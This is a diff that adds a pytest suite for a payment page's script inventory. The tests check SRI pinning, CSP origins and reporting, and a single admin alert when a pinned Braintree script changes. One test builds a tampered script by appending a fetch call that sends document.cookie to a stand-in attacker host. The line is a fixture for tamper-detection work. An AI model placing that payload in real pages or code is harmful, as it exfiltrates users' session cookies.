@@ -1,0 +1,227 @@
+"""The pay page's script inventory (PCI DSS 6.4.3 / 11.6.1): the page loads exactly the
+inventory's scripts with SRI, its CSP allows exactly their origins and reports to us,
+and a script whose content changes opens one alert for the admin."""
+
+from __future__ import annotations
+
+import dataclasses
+from html.parser import HTMLParser
+
+import pytest
+import requests
+import responses
+from flask import Flask
+from flask.testing import FlaskClient
+
+from agent_ui.paypage import install_script_inventory
+from connectors.psp.braintree_sandbox import SandboxServer
+from crm_pay.page_scripts import pay_page_scripts
+from crm_pay.services.access import create_api_key
+from crm_pay.services.cases import open_cases
+from crm_pay.services.context import Context
+from crm_pay.services.script_inventory import sri
+from paytest import create_link, token_of
+
+CLIENT_JS = b"/* braintree client 3.111.0 */"
+FIELDS_JS = b"/* braintree hosted-fields 3.111.0 */"
+BRAINTREE = "https://js.braintreegateway.com/web/3.111.0/js"
+
+
+class _Scripts(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[dict[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag == "script":
+            self.tags.append(dict(attrs))
+
+
+def _script_tags(html: str) -> list[dict[str, str | None]]:
+    parser = _Scripts()
+    parser.feed(html)
+    return parser.tags
+
+
+def _pay_page(app: Flask) -> tuple[FlaskClient, str]:
+    client = app.test_client()
+    key = create_api_key(ctx_of(app), name="t", role="agent")
+    _, payment = create_link(client, {"Authorization": f"Bearer {key}"}, amount="10.00")
+    return client, f"/pay/p/{token_of(payment['pay_url'])}"
+
+
+def ctx_of(app: Flask) -> Context:
+    from crm_pay.extension import get_context
+
+    return get_context(app)
+
+
+@pytest.fixture
+def production(app: Flask) -> Flask:
+    """The same app with Braintree's own scripts pinned (the client token still comes
+    from the local sandbox; only the page's scripts are Braintree's)."""
+    app.config["CRM_PAY_BRAINTREE_ENVIRONMENT"] = "production"
+    app.config["CRM_PAY_BRAINTREE_JS_INTEGRITY"] = {
+        "client": sri(CLIENT_JS),
+        "hosted-fields": sri(FIELDS_JS),
+    }
+    install_script_inventory(app)
+    return app
+
+
+def test_the_pay_page_loads_exactly_the_inventory_with_sri(
+    app: Flask, sandbox: SandboxServer
+) -> None:
+    client, path = _pay_page(app)
+    page = client.get(path)
+    assert page.status_code == 200
+    tags = _script_tags(page.text)
+    inventory = pay_page_scripts(ctx_of(app))
+    assert inventory is not None
+    assert [t["src"] for t in tags] == [s.url for s in inventory.scripts]
+    assert [t["src"] for t in tags] == [
+        f"{sandbox.assets_url}/hosted-fields.js",
+        "/pay/static/crm_pay_ui/crm_pay/pay.js",
+    ]
+    for tag in tags:
+        assert tag["crossorigin"] == "anonymous"
+        assert str(tag["integrity"]).startswith("sha384-")
+    # The pins are the hashes of what is actually served (else browsers refuse them).
+    served_sandbox = requests.get(str(tags[0]["src"]), timeout=5).content
+    with client.get(str(tags[1]["src"])) as own:
+        served_own = own.data
+    assert tags[0]["integrity"] == sri(served_sandbox)
+    assert tags[1]["integrity"] == sri(served_own)
+
+
+def test_the_csp_allows_exactly_the_inventory_origins_and_reports_to_us(
+    app: Flask, sandbox: SandboxServer
+) -> None:
+    client, path = _pay_page(app)
+    page = client.get(path)
+    csp = page.headers["Content-Security-Policy"]
+    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
+    assert directives["script-src"] == f"'self' {sandbox.assets_url}"
+    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
+    assert directives["report-uri"] == "/pay/csp-report"
+    # Over plain http (this app's public URL) only report-uri: Chromium would ignore it
+    # for report-to, and sends no Reporting API report from an http page.
+    assert "report-to" not in directives and "Reporting-Endpoints" not in page.headers
+
+
+def test_over_https_the_reporting_api_is_offered_too(app: Flask) -> None:
+    ctx = ctx_of(app)
+    ctx.settings = dataclasses.replace(ctx.settings, public_url="https://shop.test")
+    client, path = _pay_page(app)
+    page = client.get(path, base_url="https://shop.test")
+    csp = page.headers["Content-Security-Policy"]
+    assert csp.endswith("report-uri /pay/csp-report; report-to crm-pay-csp")
+    endpoint = "https://shop.test/pay/csp-report"
+    assert page.headers["Reporting-Endpoints"] == f'crm-pay-csp="{endpoint}"'
+    assert f'"url":"{endpoint}"' in page.headers["Report-To"]
+
+
+def test_production_pins_braintree_scripts_and_allows_only_their_origin(
+    production: Flask,
+) -> None:
+    client, path = _pay_page(production)
+    page = client.get(path)
+    assert page.status_code == 200
+    tags = _script_tags(page.text)
+    assert [(t["src"], t["integrity"]) for t in tags[:2]] == [
+        (f"{BRAINTREE}/client.min.js", sri(CLIENT_JS)),
+        (f"{BRAINTREE}/hosted-fields.min.js", sri(FIELDS_JS)),
+    ]
+    assert (
+        "script-src 'self' https://js.braintreegateway.com;"
+        in (page.headers["Content-Security-Policy"])
+    )
+
+
+def _serve(rsps: responses.RequestsMock, fields_body: bytes) -> None:
+    rsps.get(f"{BRAINTREE}/client.min.js", body=CLIENT_JS)
+    rsps.get(f"{BRAINTREE}/hosted-fields.min.js", body=fields_body)
+
+
+def test_a_changed_script_opens_one_alert_however_often_it_is_checked(
+    production: Flask, admin: FlaskClient
+) -> None:
+    ctx = ctx_of(production)
+    inventory = pay_page_scripts(ctx)
+    assert inventory is not None
+    with responses.RequestsMock() as rsps:
+        _serve(rsps, FIELDS_JS)
+        assert {r.status for r in inventory.check(ctx)} == {"ok"}
+    assert open_cases(ctx, kinds=frozenset({"pay_page_script_changed"})) == []
+    page = admin.get("/pay/admin/scripts").text
+    assert 'data-script="hosted-fields" data-status="ok"' in page
+
+    tampered = FIELDS_JS + b"fetch('https://evil.example/'+document.cookie)"
+    for _ in range(2):
+        with responses.RequestsMock() as rsps:
+            _serve(rsps, tampered)
+            results = {r.name: r for r in inventory.check(ctx)}
+        assert results["hosted-fields"].status == "changed"
+        assert results["client"].status == "ok"
+    alerts = open_cases(ctx, kinds=frozenset({"pay_page_script_changed"}))
+    assert len(alerts) == 1
+    assert alerts[0]["detail"]["observed"] == sri(tampered)
+    overview = admin.get("/pay/admin/").text
+    assert f"{BRAINTREE}/hosted-fields.min.js no longer matches its pinned hash" in overview
+    page = admin.get("/pay/admin/scripts").text
+    assert 'data-script="hosted-fields" data-status="changed"' in page
+    assert sri(tampered) in page
+
+
+def test_an_unreachable_script_is_reported_but_is_not_a_change(production: Flask) -> None:
+    ctx = ctx_of(production)
+    inventory = pay_page_scripts(ctx)
+    assert inventory is not None
+    with responses.RequestsMock() as rsps:
+        rsps.get(f"{BRAINTREE}/client.min.js", status=503)
+        rsps.get(f"{BRAINTREE}/hosted-fields.min.js", body=FIELDS_JS)
+        results = {r.name: r for r in inventory.check(ctx)}
+    assert results["client"].status == "unreachable"
+    assert "HTTP 503" in str(results["client"].error)
+    assert open_cases(ctx, kinds=frozenset({"pay_page_script_changed"})) == []
+
+
+def test_the_cli_checks_the_development_scripts_through_the_sandbox(app: Flask) -> None:
+    result = app.test_cli_runner().invoke(args=["crm-pay", "scripts", "check"])
+    assert result.exit_code == 0, result.output
+    assert "ok           hosted-fields" in result.output
+    assert "ok           pay.js" in result.output
+    listing = app.test_cli_runner().invoke(args=["crm-pay", "scripts", "list"])
+    assert "crm-pay development sandbox" in listing.output and "sha384-" in listing.output
+
+
+def test_the_admin_can_check_now_and_others_cannot_see_the_page(
+    app: Flask, admin: FlaskClient, agent: FlaskClient
+) -> None:
+    from admintest import csrf_of
+
+    page = admin.get("/pay/admin/scripts")
+    assert page.status_code == 200 and "Not checked yet." in page.text
+    done = admin.post(
+        "/pay/admin/scripts/check", data={"csrf_token": csrf_of(page.text)}, follow_redirects=True
+    )
+    assert "All 2 scripts match their pinned hashes." in done.text
+    assert 'data-status="ok"' in done.text and "Not checked yet." not in done.text
+    assert admin.post("/pay/admin/scripts/check").status_code == 400  # no CSRF token
+    assert agent.get("/pay/admin/scripts").status_code == 403
+    assert 'href="/pay/admin/scripts"' in admin.get("/pay/admin/").text
+
+
+def test_the_worker_checks_on_its_first_pass_then_once_per_interval(app: Flask) -> None:
+    from crm_pay.page_scripts import run_due_script_check
+    from crm_pay.services.script_inventory import last_check
+
+    ctx = ctx_of(app)
+    first = run_due_script_check(ctx)
+    assert first is not None and {r.status for r in first} == {"ok"}
+    seen = last_check(ctx)
+    assert seen is not None and seen["actor"] == "system:script-check"
+    assert run_due_script_check(ctx) is None  # CRM_PAY_SCRIPT_CHECK_INTERVAL not over
+    app.config["CRM_PAY_SCRIPT_CHECK_INTERVAL"] = 0
+    install_script_inventory(app)
+    assert run_due_script_check(ctx) is None  # 0: the schedule is off
